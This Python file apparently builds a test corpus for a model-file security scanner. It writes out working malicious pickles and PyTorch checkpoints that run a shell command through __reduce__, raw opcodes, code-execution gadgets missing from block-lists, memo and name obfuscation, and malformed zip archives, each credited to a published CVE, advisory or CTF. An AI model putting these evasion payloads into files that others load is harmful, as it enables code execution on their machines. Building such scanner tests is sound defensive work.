"""The attack files, one for each technique: what is in them, who published it, and how they are loaded.

`attack(file, technique, source, content, loader, level, rule)`: `loader` is what a victim would call; `None` for payloads
that are not harmless, or that need what is not installed here; `level` and `rule` are what a scan has to say at least.
"""

import bz2
import gzip
import io
import json
import lzma
import marshal
import pickle
import struct
import tarfile
import zlib

import numpy as np
import torch

from benign import saved
from ops import *

ATTACKS = []


def attack(file, technique, source, content, loader="pickle", level="dangerous", rule="dangerous-global"):
    """Adds a file to the set."""
    assert all(other["file"] != file for other in ATTACKS), file
    ATTACKS.append(dict(file=file, technique=technique, source=source, content=content, loader=loader, level=level, rule=rule))


class Reduced:
    """Pickles itself as a call of os.system."""

    def __reduce__(self):
        import os

        return os.system, (COMMAND,)


class LoadsBytes:
    """Pickles itself as a nested torch.load."""

    def __init__(self, content):
        self.content = content

    def __reduce__(self):
        return torch.storage._load_from_bytes, (self.content,)




def opcodes():
    """Every way in which a pickle can call something."""
    origin = "Python documentation, pickle"
    for protocol in range(6):
        attack(f"reduce_{protocol}.pkl", f"__reduce__, protocol {protocol}", origin, pickle.dumps(Reduced(), protocol))
    quoted = repr(COMMAND).encode()
    attack("inst.pkl", "INST", "Black Hat 2011, Slaviero: Sour Pickles", b"(S" + quoted + b"\nios\nsystem\n.")
    attack("obj.pkl", "OBJ", "fickling GHSA: OBJ calls are not seen", b"(cos\nsystem\nS" + quoted + b"\no.")
    attack("posix.pkl", "os by its other name", "picklescan, first versions", calls("posix:system", COMMAND))
    attack("newobj.pkl", "NEWOBJ of a class that does its work when made", origin, PROTO2 + name("builtins", "map") + items(name("os", "system"), value([COMMAND])) + NEWOBJ + b"0" + name("builtins", "list") + items(name("builtins", "map") + items(name("os", "system"), value([COMMAND])) + NEWOBJ) + REDUCE + STOP)
    attack("newobj_ex.pkl", "NEWOBJ_EX", origin, b"\x80\x04" + name("builtins", "list") + items(name("builtins", "map") + items(name("os", "system"), value([COMMAND])) + EMPTY_DICT + b"\x92") + REDUCE + STOP)
    state = name("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + text("__setstate__") + name("os", "system") + SETITEM + BUILD
    attack("setstate.pkl", "BUILD twice: the first makes a function the __setstate__ that the second calls", "HITCON CTF, pain in the pickle", PROTO2 + state + text(COMMAND) + BUILD + STOP)
    register = call(name("copyreg", "add_extension"), text("os"), text("system"), number(42))
    attack("extension.pkl", "EXT1, a code that the pickle registers itself", "fickling issue 322, modelaudit 623", PROTO2 + register + POP + call(b"\x82\x2a", text(COMMAND)) + STOP)
    attack("extension_only.pkl", "EXT1, a code that the loading program has registered", "modelaudit 623", PROTO2 + call(b"\x82\x2a", text(COMMAND)) + STOP, None, "unknown", "extension-code")
    attack("persistent.pkl", "a persistent id that is no storage", "Python documentation, pickle", PROTO2 + text("https://example.org/x") + BINPERSID + STOP, None, "unknown", "odd-persistent-id")
    attack("persistent_line.pkl", "PERSID", "Python documentation, pickle", b"P/etc/passwd\n.", None, "unknown", "odd-persistent-id")
    attack("dropped.pkl", "the result of the call is dropped", "fickling GHSA: calls vanish if POP takes their result", PROTO2 + SYSTEM + POP + EMPTY_DICT + STOP)
    attack("dict_key.pkl", "hidden in a dictionary of weights", "Trail of Bits 2021, Never a dill moment", PROTO2 + EMPTY_DICT + MARK + text("weight") + SYSTEM + SETITEMS + STOP)


def functions():
    """Functions that run code: the names that block-lists lacked."""
    advisory = "picklescan GHSA"
    simple = [
        ("eval", "builtins:eval", (EXPRESSION,), "Python documentation, pickle"),
        ("exec", "builtins:exec", (PYTHON,), "Python documentation, pickle"),
        ("exec_python2", "__builtin__:eval", (EXPRESSION,), "picklescan: __builtin__"),
        ("subprocess_popen", "subprocess:Popen", (COMMAND, -1, None, None, None, None, None, True, True), "picklescan, first versions"),
        ("subprocess_output", "subprocess:getoutput", (COMMAND,), "picklescan, first versions"),
        ("commands", "commands:getoutput", (COMMAND,), "fickling: names of Python 2"),
        ("pty", "pty:spawn", (["sh", "-c", COMMAND],), "fickling GHSA-r7v6-mfhq-g3m2"),
        ("timeit", "timeit:main", (["-n", "1", "-r", "1", PYTHON],), f"{advisory}-v7x6-rv5q-mhwc"),
        ("profile", "profile:run", (PYTHON, "prof"), f"{advisory}-46h3-79wf-xr6c"),
        ("cprofile", "cProfile:run", (PYTHON, "prof"), f"{advisory}, cProfile.run"),
        ("pydoc", "pydoc:pipepager", ("x", COMMAND), f"{advisory}, pydoc.pipepager"),
        ("uuid", "uuid:_get_command_stdout", ("sh", "-c", COMMAND), "fickling GHSA-5hwf-rc88-82xm"),
        ("osx_support", "_osx_support:_read_output", (COMMAND,), "fickling GHSA-5hwf-rc88-82xm"),
        ("idlelib_entity", "idlelib.calltip:get_entity", (EXPRESSION,), f"{advisory}-r8g5-cgf2-4m4m"),
        ("f2py", "numpy.f2py.crackfortran:getlincoef", (EXPRESSION, {}), f"{advisory}, numpy.f2py.crackfortran"),
        ("f2py_eval", "numpy.f2py.crackfortran:_eval_length", (EXPRESSION, {}), f"{advisory}, numpy.f2py.crackfortran"),
        ("numpy_runstring", "numpy.testing._private.utils:runstring", (PYTHON, {}), f"{advisory}, numpy runstring"),
        ("torch_collect_env", "torch.utils.collect_env:run", (COMMAND,), f"{advisory}, torch.utils.collect_env.run"),
        ("torch_execwrapper", "torch.jit.unsupported_tensor_ops:execWrapper", (PYTHON, {}, {}), f"{advisory}, torch.jit.unsupported_tensor_ops"),
        ("torch_config", "torch.utils._config_module:ConfigModule.load_config", (None, EVIL), f"{advisory}, torch.utils._config_module"),
        ("torch_decoder", "torch.utils.data.datapipes.utils.decoder:basichandlers", ("pickle", EVIL), f"{advisory}, torch datapipes decoder"),
        ("torch_load_bytes", "torch.storage:_load_from_bytes", (saved(Reduced()),), "PyTorch: nested torch.load"),
        ("pickle_loads", "pickle:loads", (EVIL,), "picklescan issue 24, nested pickles"),
        ("pickle_loads_c", "_pickle:loads", (EVIL,), "picklescan issue 24, nested pickles"),
        ("file_io", "_io:FileIO", (MARKER, "w"), f"{advisory}, _io.FileIO"),
        ("open", "builtins:open", (MARKER, "w"), "picklescan, first versions"),
        ("distutils", "distutils.file_util:write_file", (MARKER, ["x"]), f"{advisory}, distutils.file_util.write_file"),
        ("shutil", "shutil:copyfile", ("/dev/null", MARKER), "fickling, file handling"),
        ("sqlite", "sqlite3:connect", (MARKER,), "arXiv 2508.19774, functions that write files"),
        ("numpy_save", "numpy:savetxt", (MARKER, [1]), "arXiv 2508.19774, functions that write files"),
        ("spawnv", "os:popen", (COMMAND,), "picklescan, first versions"),
        ("multiprocessing", "multiprocessing.util:spawnv_passfds", (b"/bin/sh", [b"sh", b"-c", COMMAND.encode()], ()), "modelscan issue 338"),
        ("imaplib", "imaplib:IMAP4_stream", (COMMAND,), "modelscan issue 338"),
        ("script_helper", "test.support.script_helper:assert_python_ok", ("-c", PYTHON), "modelscan issue 338"),
    ]
    for file, path, arguments, source in simple:
        attack(f"{file}.pkl", path.replace(":", "."), source, calls(path, *arguments, proto=PROTO2 if source.startswith(("picklescan: __", "fickling: names")) else PROTO4))
    # Only named, not run: they install, open a browser, reach the network, or wait for a person.
    for file, path, arguments, source in [
        ("doctest", "doctest:debug_script", (PYTHON,), f"{advisory}, doctest.debug_script"),
        ("pdb", "pdb:run", (PYTHON,), f"{advisory}-4675-36f9-wf6r"),
        ("site", "site:execsitecustomize", (), "fickling"),
        ("aix_support", "_aix_support:_read_cmd_output", (COMMAND,), "fickling GHSA-5hwf-rc88-82xm"),
        ("lib2to3", "lib2to3.pgen2.pgen:ParserGenerator.make_label", (None, None, repr("") + " or " + EXPRESSION), f"{advisory}, lib2to3"),
        ("pip_main", "pip:main", (["install", "example"],), "CVE-2025-1716, GHSA-655q-fx9r-782v"),
        ("pip_internal", "pip._internal:main", (["install", "example"],), "CVE-2025-1716"),
        ("ensurepip", "ensurepip:_run_pip", (["install", "example"],), f"{advisory}-xp4f-hrf8-rxw7"),
        ("webbrowser", "webbrowser:open", ("https://example.org",), "modelscan: webbrowser"),
        ("urllib", "urllib.request:urlopen", ("https://example.org",), f"{advisory}-hgrh-qx5j-jfwx"),
        ("ssl", "ssl:get_server_certificate", (("example.org", 443),), f"{advisory}, ssl.get_server_certificate"),
        ("http", "http.client:HTTPSConnection", ("example.org",), f"{advisory}-hgrh-qx5j-jfwx"),
        ("socket", "socket:create_connection", (("example.org", 80),), "fickling issue 16"),
        ("linecache", "linecache:getlines", ("/etc/passwd",), f"{advisory}, linecache"),
        ("torch_hub", "torch.hub:load", ("example/example", "x"), "modelscan: torch.hub"),
        ("torch_load", "torch:load", ("x.pth",), "picklescan: torch.load"),
        ("numpy_load", "numpy:load", ("x.npy", None, True), "picklescan: numpy.load"),
        ("inductor", "torch._inductor.codecache:compile_file", ("x.py", "x", "cpp"), f"{advisory}, torch._inductor.codecache.compile_file"),
        ("dynamo_guards", "torch._dynamo.guards:GuardBuilder.get", (None, EXPRESSION), f"{advisory}, torch._dynamo.guards"),
        ("marshal", "marshal:loads", (b"x",), "fickling GHSA-565g-hwwr-4pp3"),
        ("interpreters", "_interpreters:run_string", (0, PYTHON), "fickling GHSA-6ggj-6f2q-f7mx"),
        ("zipimport", "zipimport:zipimporter", ("x.zip",), "fickling pull 215"),
        ("rlcompleter", "rlcompleter:Completer", ({},), "fickling"),
        ("smtplib", "smtplib:SMTP", ("example.org",), "fickling pull 215"),
        ("imp", "imp:load_source", ("x", "x.py"), "fickling pull 312"),
        ("pipes", "pipes:Template", (), "fickling pull 312"),
        ("asyncio", "asyncio.unix_events:_UnixSubprocessTransport._start", (None, COMMAND), "CVE-2025-10157"),
        ("idlelib_pyshell", "idlelib.pyshell:ModifiedInterpreter.runcode", (None, "x"), f"{advisory}-r8g5-cgf2-4m4m"),
        ("idlelib_run", "idlelib.run:Executive.runcode", (None, "x"), f"{advisory}-r8g5-cgf2-4m4m"),
        ("bdb", "bdb:Bdb.run", (None, PYTHON), f"{advisory}-4675-36f9-wf6r"),
        ("trace", "trace:Trace.run", (None, PYTHON), f"{advisory}-46h3-79wf-xr6c"),
        ("code", "code:InteractiveInterpreter.runcode", (None, "x"), f"{advisory}, code.InteractiveInterpreter"),
        ("shape_env", "torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression", (None, EXPRESSION, []), f"{advisory}, torch.fx"),
        ("bottleneck", "torch.utils.bottleneck.__main__:run_cprofile", ("x", {}), f"{advisory}, torch.utils.bottleneck"),
    ]:
        attack(f"{file}.pkl", f"{path.replace(':', '.')}, named only", source, calls(path, *arguments, proto=b"\x80\x04"), None)
    attack("unknown_class.pkl", "a class that nobody knows", "allow-list", calls("some_package.models:Net", 1), None, "unknown", "unknown-global")
    attack("unknown_import.pkl", "an import without a call: its module runs", "modelscan issue 338", PROTO2 + name("this_is_local", "x") + STOP, None, "unknown", "unknown-global")


def chains():
    """Names that are only put together when the pickle runs."""
    imported = call(name("builtins", "__import__"), text("os"))
    attack("getattr.pkl", "builtins.getattr of a module", "picklescan, first versions", PROTO2 + call(call(name("builtins", "getattr"), imported, text("system")), text(COMMAND)) + STOP)
    module = call(name("importlib", "import_module"), text("os"))
    attack("import_module.pkl", "importlib.import_module", "picklescan pull 74", PROTO2 + call(call(name("builtins", "getattr"), module, text("system")), text(COMMAND)) + STOP)
    attack("resolve_name.pkl", "pkgutil.resolve_name", "picklescan GHSA-vvpj-8cmc-gx39", PROTO2 + call(call(name("pkgutil", "resolve_name"), text("os:system")), text(COMMAND)) + STOP)
    getter = call(name("operator", "attrgetter"), text("system"))
    attack("attrgetter.pkl", "operator.attrgetter", "picklescan GHSA-m273-6v24-x4m4", PROTO2 + call(call(getter, imported), text(COMMAND)) + STOP)
    caller = call(name("operator", "methodcaller"), text("system"), text(COMMAND))
    attack("methodcaller.pkl", "operator.methodcaller", "picklescan GHSA-955r-x9j8-7rhh", PROTO2 + call(caller, imported) + STOP)
    attack("underscore_operator.pkl", "_operator.attrgetter", "picklescan GHSA-m273-6v24-x4m4", PROTO2 + call(call(call(name("_operator", "attrgetter"), text("system")), imported), text(COMMAND)) + STOP)
    partial = call(name("functools", "partial"), name("os", "system"), text(COMMAND))
    attack("partial.pkl", "functools.partial", "fickling pull 210", PROTO2 + call(partial) + STOP)
    attack("reduce_function.pkl", "functools.reduce", "picklescan GHSA, functools", PROTO2 + call(name("functools", "reduce"), name("builtins", "eval"), value([EXPRESSION, {}])) + STOP)
    code = marshal.dumps(compile(PYTHON, "<x>", "exec"))
    made = call(name("types", "FunctionType"), call(name("marshal", "loads"), data(code)), EMPTY_DICT)
    attack("function_type.pkl", "types.FunctionType of marshalled code", "fickling GHSA-565g-hwwr-4pp3", b"\x80\x03" + call(made) + STOP)
    packed = call(name("zlib", "decompress"), data(zlib.compress(PYTHON.encode())))
    attack("zlib_exec.pkl", "compressed code", "modelscan issue 338", b"\x80\x03" + call(name("builtins", "exec"), packed) + STOP)
    attack("codecs_exec.pkl", "encoded code", "modelscan issue 338", b"\x80\x03" + call(name("builtins", "exec"), call(name("_codecs", "decode"), data(PYTHON.encode().hex().encode()), text("hex"))) + STOP)
    attack("encoded_pickle.pkl", "a pickle as an encoded text", "picklescan issue 24", PROTO2 + call(name("pickle", "loads"), call(name("_codecs", "encode"), text(EVIL.decode("latin1")), text("latin1"))) + STOP)
    # Modules that a harmless module has imported are its attributes.
    for file, module, path in [("dotted_logging", "logging", "os.system"), ("dotted_torch", "torch.serialization", "os.system"), ("dotted_argparse", "argparse", "_os.system"), ("dotted_collections", "collections", "_sys.modules"), ("dotted_globals", "collections", "OrderedDict.__init__.__globals__")]:
        body = stack_name(module, path)
        body = call(body, text(COMMAND)) if path.endswith("system") else body
        attack(f"{file}.pkl", f"STACK_GLOBAL with the dotted name {path}", "HITCON CTF; picklescan GHSA, attribute chains", PROTO4 + body + STOP, "pickle" if path.endswith("system") else None, "dangerous", "dangerous-global")
    attack("getattr_chain.pkl", "a chain that begins at an allowed class", "fickling GHSA", PROTO4 + call(call(name("builtins", "getattr"), stack_name("collections", "OrderedDict.__init__"), text("__call__"))) + STOP, None)


def names_hidden():
    """Names that scanners failed to put together."""
    push = b"\x94"
    evil = b"\x8c\x02os" + b"q\x00" + b"\x8c\x06system" + b"q\x01" + b"00"
    safe = short("collections") + b"q\x05" + short("OrderedDict") + b"q\x06" + b"00"
    attack("memo_confusion.pkl", "BINPUT and MEMOIZE mixed", "picklescan issue 14 and 22; ImaginaryCTF 2023, safe pickle", PROTO4 + short("os") + b"q\x07" + POP + short("system") + b"q\x08" + POP + short("torch._utils") + push + POP + short("_rebuild_tensor_v2") + push + POP + b"h\x07h\x08\x93" + items(text(COMMAND)) + REDUCE + STOP)
    attack("memo_get.pkl", "names from the memo, other texts in between", "agent-bom pull 3326", PROTO4 + evil + safe + short("a") + POP + short("b") + POP + b"h\x00h\x01\x93" + items(text(COMMAND)) + REDUCE + STOP)
    attack("memo_overwrite.pkl", "a memo entry that is stored twice", "picklescan issue 14", PROTO4 + short("collections") + b"q\x00" + POP + short("os") + b"q\x00" + POP + b"h\x00" + short("system") + b"\x93" + items(text(COMMAND)) + REDUCE + STOP)
    patched = name("numpy", "prod") + NONE + EMPTY_DICT + text("a") + text("os") + SETITEM + TUPLE2 + BUILD + NONE + EMPTY_DICT + text("b") + text("system") + SETITEM + TUPLE2 + BUILD + POP
    attack("build_attributes.pkl", "names stored as attributes of a function", "modelscan issue 85", b"\x80\x05" + patched + name("numpy", "prod.a") + b"p0\n0" + name("numpy", "prod.b") + b"p1\n0g0\ng1\n\x93" + items(text(COMMAND)) + REDUCE + STOP, "pickle", "dangerous", "hidden-global")
    made = call(name("builtins", "str"), data(b"os"), text("ascii"))
    attack("computed_name.pkl", "a name that an allowed call makes", "picklescan pull 52, fickling", PROTO4 + made + short("system") + STACK_GLOBAL + items(text(COMMAND)) + REDUCE + STOP, "pickle", "dangerous", "hidden-global")
    attack("dup_name.pkl", "DUP and POP around the names", "picklescan GHSA-9gvj-pp9x-gcfr", PROTO4 + short("os") + DUP + POP + short("x") + POP + short("system") + DUP + POP + STACK_GLOBAL + items(text(COMMAND)) + REDUCE + STOP)
    attack("mark_name.pkl", "POP_MARK between the names", "picklescan GHSA-9gvj-pp9x-gcfr", PROTO4 + short("os") + MARK + short("x") + b"1" + short("system") + STACK_GLOBAL + items(text(COMMAND)) + REDUCE + STOP)
    attack("zero_module.pkl", "a zero byte in the name of a module: Python finds os by what comes before", "found here", PROTO2 + call(name("os\0x", "system"), text(COMMAND)) + STOP)
    attack("unicode_escape.pkl", "UNICODE with escapes", "HackTricks, pickle", b"V\\u006fs\nVs\\u0079stem\n\x93(V" + COMMAND.encode() + b"\ntR.")
    attack("string_escape.pkl", "STRING with escapes", "HackTricks, pickle", b"S'\\x6fs'\nS'sys\\x74em'\n\x93(V" + COMMAND.encode() + b"\ntR.")
    attack("binunicode8.pkl", "BINUNICODE8", "fickling issue 322", PROTO4 + b"\x8d" + struct.pack("<Q", 2) + b"os" + short("system") + STACK_GLOBAL + items(text(COMMAND)) + REDUCE + STOP)
    attack("binstring.pkl", "BINSTRING names", "fickling issue 322", PROTO4 + b"T\x02\x00\x00\x00os" + b"U\x06system" + STACK_GLOBAL + items(text(COMMAND)) + REDUCE + STOP)
    attack("float_first.pkl", "a FLOAT before it, which one scanner lacks", "fickling issue 322", b"F1.0\n0" + SYSTEM + STOP)
    attack("put_underscore.pkl", "memo numbers as Python reads them", "pickletools differs from the C unpickler", PROTO2 + text("x") + b"p+1_0\n0" + name("os", "system") + b"p 11\n0g1_1\n" + items(text(COMMAND)) + REDUCE + STOP)
    attack("proto_middle.pkl", "PROTO in the middle", "pickletools differs from the C unpickler", b"\x80\x04" + short("os") + b"\x80\x02" + short("system") + STACK_GLOBAL + items(text(COMMAND)) + REDUCE + STOP)
    attack("global_at_end.pkl", "GLOBAL without its last newline", "pickletools differs from the C unpickler", PROTO2 + b"cos\nsystemX", None)
    attack("long_name.pkl", "a name of 100,000 characters", "scanner that cuts names", PROTO2 + name("os", "system" + ".x" * 500) + STOP, None)
    payload = SYSTEM + POP + MARK
    inner = (b"\x00" + payload).ljust(256 + 5, b"N") + b"1"
    attack("frame_straddles.pkl", "a frame that ends inside of an opcode", "CPython issue 154848", b"\x80\x05" + NONE + MARK + b"\x95" + struct.pack("<Q", 2) + b"B" + struct.pack("<I", len(inner)) + inner + b"1" + STOP, None, "dangerous", "pickle-trick")
    attack("stack_types.pkl", "STACK_GLOBAL on bytes, after the payload", "modelscan issue 338", PROTO4 + SYSTEM + b"C\x02os" + short("system") + STACK_GLOBAL + STOP)
    attack("stack_int.pkl", "STACK_GLOBAL on a number, after the payload", "picklescan pull 52", PROTO4 + SYSTEM + number(42) + short("os") + STACK_GLOBAL + STOP)
    attack("stack_bytearray.pkl", "STACK_GLOBAL on a bytearray, after the payload", "modelscan issue 338", b"\x80\x05" + SYSTEM + short("os") + b"\x96" + struct.pack("<Q", 6) + b"system" + STACK_GLOBAL + STOP)
    attack("missing_memo.pkl", "a memo entry that was never stored, after the payload", "modelscan pull 348, picklescan pull 52", PROTO4 + SYSTEM + b"h\x63" + short("x") + STACK_GLOBAL + STOP)


def broken():
    """Pickles that break after the payload has run."""
    source = "ReversingLabs 2025, nullifAI"
    attack("no_stop.pkl", "no end mark", source, PROTO2 + SYSTEM)
    attack("unknown_opcode.pkl", "a byte that is no opcode", source, PROTO2 + SYSTEM + b"\xff" + STOP)
    attack("cut_argument.pkl", "a length that reaches past the end", source, PROTO2 + SYSTEM + b"B\xff\xff\xff\x7fxx")
    attack("newer_protocol.pkl", "a protocol that does not exist", source, PROTO2 + SYSTEM + b"\x80\x09" + STOP)
    attack("negative_long.pkl", "LONG4 of negative length", "pickletools differs from the C unpickler", PROTO2 + SYSTEM + b"\x8b\xff\xff\xff\xff" + STOP)
    attack("negative_string.pkl", "BINSTRING of negative length", "CPython issue 135321", PROTO2 + SYSTEM + b"T\xff\xff\xff\xffx" + STOP)
    attack("long_frame.pkl", "a frame longer than the file, after the payload", "CPython issue 154848", PROTO4 + SYSTEM + b"\x95\xff\xff\x00\x00\x00\x00\x00\x00" + STOP)
    attack("buffer.pkl", "NEXT_BUFFER, after the payload", "fickling issue 322", b"\x80\x05" + SYSTEM + b"\x97" + STOP)
    attack("newline.pkl", "a stray newline after the payload", "picklescan pull 26", PROTO2 + SYSTEM + b"\n" + STOP)
    attack("underflow.pkl", "POP of an empty stack, after the payload", "arXiv 2508.19774, exception-oriented programming", PROTO2 + SYSTEM + POP + POP + POP + STOP)
    attack("behind_break.pkl", "the payload behind a break: other readers may go on", "fickling pull 139", PROTO2 + b"\xff" + SYSTEM + STOP, None)
    attack("protocol_broken.pth", "a protocol that does not exist, then a break", "found here", archive(checkpoint(b"\x80\x09" + EMPTY_DICT + POP + POP + STOP)), None, "suspicious", "broken-pickle")
    attack("protocol_only.pth", "a protocol that does not exist, which torch's restricted unpickler passes over", "found here", archive(checkpoint(b"\x80\x09" + EMPTY_DICT + STOP)), None, "suspicious", "broken-pickle")
    attack("broken_only.pkl", "broken, and nothing in it", "none", PROTO2 + EMPTY_DICT + text("x"), None, "suspicious", "broken-pickle")
    attack("after_stop.pkl", "a second pickle", "modelscan issue 338", BENIGN + EVIL, "pickles", "dangerous", "after-stop")
    attack("stop_garbage.pkl", "bytes after the end", "none", BENIGN + b"garbage" * 3, None, "suspicious", "after-stop")
    attack("many_pickles.pkl", "the third of three", "picklescan: multiple pickles", BENIGN + pickle.dumps([1, 2]) + EVIL, "pickles")
    attack("hidden_after_stop.pkl", "a pickle some way after the end", "none", BENIGN + b"\x00" * 40 + EVIL, None, "dangerous", "hidden-pickle")
    attack("patched.pkl", "BUILD on a class", "modelscan issue 85", PROTO2 + name("collections", "OrderedDict") + NONE + EMPTY_DICT + text("x") + number(1) + SETITEM + TUPLE2 + BUILD + STOP, None, "dangerous", "patched-global")
    attack("bytes_pickle.pkl", "a pickle in bytes, that nothing loads", "none", b"\x80\x03" + data(EVIL) + STOP, None, "dangerous", "hidden-pickle")


def legacy_parts(pickles=None, tail=b"", **replaced):
    """A legacy file of torch.save with some of its five pickles replaced."""
    content = saved({"weight": torch.arange(4.0)}, _use_new_zipfile_serialization=False)
    stream = io.BytesIO(content)
    parts = []
    for _ in range(5):
        start = stream.tell()
        unpickler = pickle._Unpickler(stream)
        unpickler.persistent_load = lambda _: torch.FloatStorage(4)
        unpickler.load()
        parts.append(content[start : stream.tell()])
    for index, part in (pickles or {}).items():
        parts[index] = part
    return b"".join(parts) + content[stream.tell() :] + tail


def legacy():
    """Files of torch.save before PyTorch 1.6."""
    source = "picklescan: multiple pickles of a legacy file"
    for index, what in enumerate(["magic number", "protocol", "system", "objects", "keys"]):
        attack(f"legacy_{index}.pt", f"legacy file, payload in the pickle of the {what}", source, legacy_parts({index: EVIL}), "torch")
    attack("legacy_tail.pt", "legacy file with a pickle behind its storages", "none", legacy_parts(tail=EVIL), None, "dangerous", "legacy-stream")
    attack("legacy_cut.pt", "legacy file, cut off", "none", legacy_parts()[:-8], None, "not-scannable", None)
    attack("plain.pt", "a plain pickle as .pt", "CVE-2025-10155", EVIL, "torch")


def zips():
    """Archives that readers understand differently."""
    benign = pickle.dumps({"x": 1}, 2)
    make = lambda entries, **lies: archive(entries, **lies)
    attack("plain_zip.pth", "a checkpoint with a payload", "Trail of Bits 2021, Never a dill moment", make(checkpoint()), "torch")
    attack("saved.pth", "torch.save of an object", "PyTorch documentation", saved({"x": Reduced()}), "torch")
    attack("deflated.pth", "deflated", "none", make(checkpoint(method=8)), "torch")
    attack("extension.bin", "another extension", "CVE-2025-10155", make(checkpoint()), "torch")
    attack("crc.pth", "wrong checksum", "CVE-2025-10156", make(checkpoint(crc=0x12345678)), "torch", "dangerous", "zip-checksum")
    attack("flag_central.pth", "flag bit 0 in the central header", "CVE-2025-1945", make(checkpoint(central_flags=1)), "torch", "dangerous", "zip-flags")
    attack("flag_local.pth", "flag bit 0 in the local header", "CVE-2025-1945", make(checkpoint(local_flags=1)), "torch", "dangerous", "zip-mismatch")
    attack("flag_both.pth", "flag bit 0 in both headers", "CVE-2025-1945", make(checkpoint(flags=1)), "torch", "dangerous", "zip-flags")
    for bit in (5, 6, 13):
        attack(f"flag_{bit}.pth", f"flag bit {bit}", "CVE-2025-1945", make(checkpoint(flags=1 << bit)), "torch", "dangerous", "zip-flags")
    attack("folder.pth", "a payload marked as a folder", "found here", make(checkpoint(external=0x10)), "zipfile", "dangerous", "zip-flags")
    attack("disks.pth", "an archive that says it is split", "found here", make(checkpoint(disk=7)), "zipfile")
    attack("local_name.pth", "another name in the local header", "CVE-2025-1944", make(checkpoint(local_path=b"archive/data.txt")), "torch", "dangerous", "zip-mismatch")
    attack("local_size.pth", "other sizes in the local header", "none", make(checkpoint(local_size=3, local_packed=3)), "torch", "dangerous", "zip-mismatch")
    attack("local_method.pth", "another compression in the local header", "none", make(checkpoint(local_method=8)), "torch", "dangerous", "zip-mismatch")
    attack("central_size.pth", "a wrong size in the central header", "none", make(checkpoint(central_size=3)), "torch", "dangerous", "zip-mismatch")
    attack("no_crc.pth", "no checksum", "none", make(checkpoint(crc=0)), "torch")
    first, second = Entry("archive/data.pkl", EVIL), Entry("archive/data.pkl", benign)
    attack("duplicate_first.pth", "two entries of one name, the first evil", "picklescan: duplicate entries", make(checkpoint(EVIL, extra=[second])), "torch", "dangerous", "zip-duplicate")
    attack("duplicate_last.pth", "two entries of one name, the last evil", "picklescan: duplicate entries", make(checkpoint(benign, extra=[first])), "zipfile", "dangerous", "zip-duplicate")
    attack("upper_case.pth", "DATA.PKL besides data.pkl", "none", make(checkpoint(benign, extra=[Entry("archive/DATA.PKL", EVIL)])), "torch", "dangerous", "zip-name")
    attack("only_upper_case.pth", "DATA.PKL alone, which PyTorch reads", "none", make(checkpoint(pickle_path="archive/DATA.PKL")), "torch")
    attack("upper_case_first.pth", "DATA.PKL before data.pkl", "none", make([Entry("archive/DATA.PKL", EVIL), *checkpoint(benign)]), "torch", "dangerous", "zip-name")
    for n in (1, 2, 3, 4):
        extra = [Entry(f"archive/data/{i}", b"\0" * 8) for i in range(n)]
        attack(f"duplicate_among_{n}.pth", f"two entries of one name among {n} others", "picklescan: duplicate entries", make([*extra, *checkpoint(benign, extra=[first])]), "torch", "dangerous", "zip-duplicate")
    attack("backslash.pth", "a backslash in the name", "none", make(checkpoint(benign, extra=[Entry("archive\\data.pkl", EVIL)])), None, "dangerous", "zip-name")
    attack("parent.pth", "a name that leads out", "zip slip", make(checkpoint(benign, extra=[Entry("archive/../../data.pkl", EVIL)])), None, "dangerous", "zip-name")
    attack("absolute.pth", "an absolute name", "zip slip", make([*checkpoint(benign), Entry("/data.pkl", EVIL)]), None, "dangerous", "zip-name")
    attack("zero_name.pth", "a zero byte in the name", "Python zipfile cuts names", make(checkpoint(benign, extra=[Entry("archive/data.pkl\0.txt", EVIL)])), None, "dangerous", "zip-name")
    attack("two_roots.pth", "data.pkl in two folders", "none", make([*checkpoint(EVIL), *checkpoint(benign, "other")]), "zipfile-first", "dangerous", "zip-name")
    attack("unicode_path.pth", "another name in the Unicode extra field", "Info-ZIP", make(checkpoint(central_extra=struct.pack("<HHBI", 0x7075, 5 + 16, 1, zlib.crc32(b"archive/data.pkl")) + b"archive/data.txt")), "torch", "dangerous", "zip-mismatch")
    attack("prefix.pth", "bytes before the archive", "polyglots, Albertini", make(checkpoint(), prefix=b"GIF89a" + b"\0" * 20), "zipfile", "dangerous", "polyglot")
    attack("prefix_offset.pth", "bytes before the archive, offsets counted from the archive", "polyglots, Albertini", make(checkpoint(), prefix=b"GIF89a" + b"\0" * 20, base=0), "zipfile", "dangerous", "zip-directory")
    attack("pickle_prefix.pkl", "a pickle before an archive", "polyglots, Albertini", make(checkpoint(benign), prefix=EVIL), "pickle", "dangerous", "polyglot")
    attack("suffix.pth", "bytes after the archive", "none", make(checkpoint(), suffix=b"x" * 30), "torch", "dangerous", "zip-outside")
    attack("suffix_pickle.pth", "a pickle after the archive", "none", make(checkpoint(benign), suffix=EVIL), None, "dangerous", "zip-outside")
    attack("comment.pth", "a pickle in the comment", "none", make(checkpoint(benign), comment=EVIL), None, "dangerous", "hidden-pickle")
    attack("gap.pth", "a pickle between the entries and the directory", "none", make(checkpoint(benign), gap=EVIL), None, "dangerous", "zip-outside")
    attack("hidden_entry.pth", "an entry that the directory does not list", "picklescan: forward readers", make(checkpoint(benign), hidden=[Entry("archive/x.pkl", EVIL)]), None, "dangerous", "zip-outside")
    attack("two_archives.pth", "one archive after another", "polyglots, Albertini", make(checkpoint(benign)) + make(checkpoint(EVIL)), "zipfile", "dangerous", "zip-directory")
    attack("count.pth", "more entries than the end record counts", "none", make([*checkpoint(benign), Entry("archive/x.pkl", EVIL)], count=3), None, "dangerous", "zip-directory")
    attack("directory_size.pth", "a directory of another length", "none", make(checkpoint(), directory_size=500), None, "dangerous", "zip-directory")
    attack("overlap.pth", "an entry inside of another", "zip bomb, Fifield", make([Entry("archive/blob", make([Entry("inner.pkl", EVIL)])), Entry("archive/data.pkl", EVIL, offset=42), *checkpoint(benign)]), None, "dangerous", "zip-overlap")
    attack("text_entry.pth", "a pickle behind .txt", "CVE-2025-1889", make(checkpoint(benign, extra=[Entry("archive/notes.txt", EVIL)])), None, "dangerous", "hidden-pickle")
    attack("config_entry.pth", "a pickle behind .config, loaded by the first", "CVE-2025-1889", make(checkpoint(benign, extra=[Entry("archive/model.config", EVIL)])), None, "dangerous", "hidden-pickle")
    attack("storage_entry.pth", "a pickle as a storage", "none", make(checkpoint(benign, extra=[Entry("archive/data/0", EVIL + b"\0" * 100)])), None, "dangerous", "hidden-pickle")
